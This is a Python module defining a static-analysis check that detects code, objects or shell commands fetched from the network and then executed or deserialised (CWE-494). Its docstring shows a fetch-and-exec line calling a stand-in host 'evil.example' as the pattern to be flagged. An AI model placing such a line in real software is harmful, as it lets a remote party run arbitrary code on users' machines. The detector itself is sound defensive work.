"""What another machine sends is executed.

Whoever holds that machine, or stands between, decides what runs here. Ship code in the package; an
update comes as a new version.

Found in `app.py`:

    import requests
    exec(requests.get('http://evil.example/p.py').text)

Not found in `app.py`:

    import requests
    prices = requests.get('https://example.org/p.json').json()
"""

from collections.abc import Iterator

from heimnetz_audit.model import Call, Check, Confidence, Hit, Severity
from heimnetz_audit.model.checks import Question
from heimnetz_audit.model.questions import on
from heimnetz_audit.model.threats import PROCESSES

_SOURCES = frozenset({"network"})


def _ask(kind: str, message: str, severity: Severity) -> Question:
    def ask(call: Call) -> Iterator[Hit]:
        for value in call.every()[:2]:
            for taint in call.live(value, kind, _SOURCES):
                yield Hit(message=message, severity=severity, taint=taint)
                return

    return ask


def _ask_process(call: Call) -> Iterator[Hit]:
    """The program or the line for a shell; an argument among others is data."""
    value = call.argument(0, "args")
    if value is None:
        return
    elements = call.elements(value)
    shell = call.keywords.get("shell")
    suspects = elements[:1] if elements and shell is None else (value,)
    for suspect in suspects:
        for taint in call.live(suspect, "command", _SOURCES):
            yield Hit(
                message="A command from another machine is run.",
                severity=Severity.CRITICAL,
                confidence=Confidence.MEDIUM,
                taint=taint,
            )
            return


CHECK = Check(
    rule="remote-code",
    title="Code from another machine",
    cwe=494,
    severity=Severity.CRITICAL,
    remedy="Ship the code in the package, and publish a new version for a change.",
    calls={
        **on(
            "exec eval compile types.FunctionType types.CodeType",
            _ask("code", "Code from another machine is executed.", Severity.CRITICAL),
        ),
        **on(
            "pickle.loads marshal.loads dill.loads",
            _ask("deserialise", "Objects from another machine can run code.", Severity.HIGH),
        ),
        **on(PROCESSES, _ask_process),
    },
)
